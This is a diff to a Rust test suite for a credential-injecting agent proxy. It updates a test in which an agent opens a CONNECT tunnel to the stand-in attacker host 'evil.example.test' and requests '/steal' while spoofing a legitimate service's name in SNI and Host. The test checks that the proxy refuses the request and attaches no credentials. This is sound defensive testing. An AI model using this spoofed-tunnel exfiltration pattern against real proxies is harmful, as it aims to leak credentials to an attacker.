@@ -55,7 +55,8 @@ fn no_credential_reached_the_upstream(app: &TestApp, since: usize) {
 }
 
 /// CONNECT to a host no service binds, carrying a service's name in the inner Host and the TLS
-/// SNI: the tunnel is spliced (or refused under `deny`), nothing is attached.
+/// SNI: the tunnel is spliced (or, under `deny`, intercepted and refused inside), nothing is
+/// attached.
 #[tokio::test]
 async fn exfil_connect_to_attacker_host_with_service_host_and_sni() {
     let app = spawn_app().await;
@@ -70,15 +71,25 @@ async fn exfil_connect_to_attacker_host_with_service_host_and_sni() {
     let seen = app.upstream.last();
     assert_eq!(seen.path_and_query, "/steal");
     assert_eq!(seen.header("authorization"), None, "nothing attached");
+    // Under deny the CONNECT is intercepted to explain the refusal: the service's name in SNI
+    // and Host is misdirected (421), the attacker's own name is refused (403); nothing is sent.
     app.set_policy("exfil-connect", "deny").await;
-    let (code, head) = agent::connect(app.proxy, "evil.example.test:443", Some(&auth))
-        .await
-        .unwrap_err();
-    assert_eq!(code, 403, "{head}");
-    assert!(
-        head.contains("x-agent-vault-proxy-error: forbidden_host"),
-        "{head}"
+    let before = app.upstream.count();
+    let resp = agent::dial(app.proxy, &auth, "evil.example.test:443")
+        .sni("api.example.test")
+        .get("/steal", "api.example.test")
+        .await;
+    assert_eq!(resp.status(), 421);
+    let resp = agent::dial(app.proxy, &auth, "evil.example.test:443")
+        .sni("evil.example.test")
+        .get("/steal", "evil.example.test")
+        .await;
+    assert_eq!(resp.status(), 403);
+    assert_eq!(
+        resp.headers()["x-agent-vault-proxy-error"],
+        "forbidden_host"
     );
+    assert_eq!(app.upstream.count(), before, "nothing reached the upstream");
     no_credential_reached_the_upstream(&app, 0);
 }
 
